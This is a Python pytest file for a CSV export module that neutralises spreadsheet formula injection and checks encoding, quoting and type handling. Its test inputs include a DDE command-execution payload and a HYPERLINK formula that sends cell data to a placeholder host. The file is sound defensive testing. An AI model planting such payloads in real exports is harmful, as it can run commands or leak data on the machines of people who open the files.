"""CSV for spreadsheets: exact bytes for each formula start, typed cells, Japanese text and quoting."""

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from backend.core.spreadsheet_csv import Cell, cell_text, spreadsheet_csv

BOM = b"\xef\xbb\xbf"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=cmd|' /C calc'!A0", b"\"'=cmd|' /C calc'!A0\""),
        ("+SUM(1+1)", b'"\'+SUM(1+1)"'),
        ("-1+1", b'"\'-1+1"'),
        ("@SUM(A1)", b'"\'@SUM(A1)"'),
        ("\t=1+1", b'"\'\t=1+1"'),
        ("\r=1+1", b'"\'\r=1+1"'),
        ("\x00=1+1", b'"\'\x00=1+1"'),
        ("＝1+1", '"\'＝1+1"'.encode()),
        ("＋SUM(1,1)", '"\'＋SUM(1,1)"'.encode()),
        ("－1+1", '"\'－1+1"'.encode()),
        ("＠SUM(A1)", '"\'＠SUM(A1)"'.encode()),
        ('=HYPERLINK("http://x.example/?"&A1,"click")', b'"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"'),
        ("-", b'"\'-"'),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_marked_as_text(text: str, written: bytes) -> None:
    assert spreadsheet_csv([[text]]) == BOM + written + b"\r\n"


@pytest.mark.parametrize(
    "text",
    ["a=1", "株式会社=テスト", "1-2", "user@example.com", " =1+1", "'quoted", "ー長音", "−1", ""],
)
def test_text_that_does_not_start_a_formula_is_written_as_given(text: str) -> None:
    assert cell_text(text) == text


def test_a_normal_row_with_a_header() -> None:
    rows: list[list[Cell]] = [
        ["serial_number", "product", "expires_on", "amount_yen", "company_name", "note"],
        ["QF7K-2M9P-XR4T-8WNC-3HJD", "CLOUD", date(2027, 6, 14), 13200, "株式会社テスト", None],
    ]
    assert spreadsheet_csv(rows) == (
        BOM + b'"serial_number","product","expires_on","amount_yen","company_name","note"\r\n'
        b'"QF7K-2M9P-XR4T-8WNC-3HJD","CLOUD","2027-06-14","13200","' + "株式会社テスト".encode() + b'",""\r\n'
    )


def test_japanese_full_width_and_emoji_are_utf8_after_a_bom() -> None:
    data = spreadsheet_csv([["株式会社テスト　東京本社", "ＡＢＣ１２３", "ｶﾌﾞｼｷｶﾞｲｼｬ", "𠮷野家 😀"]])
    assert data == BOM + '"株式会社テスト　東京本社","ＡＢＣ１２３","ｶﾌﾞｼｷｶﾞｲｼｬ","𠮷野家 😀"\r\n'.encode()
    assert data.decode("utf-8-sig").startswith('"株式会社')


def test_none_is_an_empty_cell_and_a_negative_int_stays_a_number() -> None:
    """Typed as int, an amount is a number to Excel; the same digits as text are text."""
    assert spreadsheet_csv([[None, -1500, 0, "-1500"]]) == BOM + b'"","-1500","0","\'-1500"\r\n'


def test_quotes_commas_and_line_breaks_stay_inside_their_cell() -> None:
    """Text cannot end its cell to start another with a formula (OWASP's note on separators)."""
    assert spreadsheet_csv([['a","=1+1', "x,=1+1;=2", "line\r\n=1+1", '"=1+1"']]) == (
        BOM + b'"a"",""=1+1","x,=1+1;=2","line\r\n=1+1","""=1+1"""\r\n'
    )


def test_no_rows_is_a_bom_alone_and_each_row_ends_with_crlf() -> None:
    assert spreadsheet_csv([]) == BOM
    assert spreadsheet_csv([["a"], ["b"]]) == BOM + b'"a"\r\n"b"\r\n'


@pytest.mark.parametrize(
    ("cell", "message"),
    [
        (True, "a bool has no one spreadsheet form: pass the text meant"),
        (
            datetime(2026, 11, 26, 1, 0, tzinfo=UTC),
            "a datetime is shown in Asia/Tokyo: pass the formatted text or its date",
        ),
        (1.5, "a spreadsheet cell holds text, an int, a date or None, not float"),
        (Decimal("1.5"), "a spreadsheet cell holds text, an int, a date or None, not Decimal"),
    ],
)
def test_values_without_one_spreadsheet_form_are_refused(cell: object, message: str) -> None:
    with pytest.raises(TypeError) as raised:
        spreadsheet_csv([[cell]])  # type: ignore[list-item]
    assert str(raised.value) == message
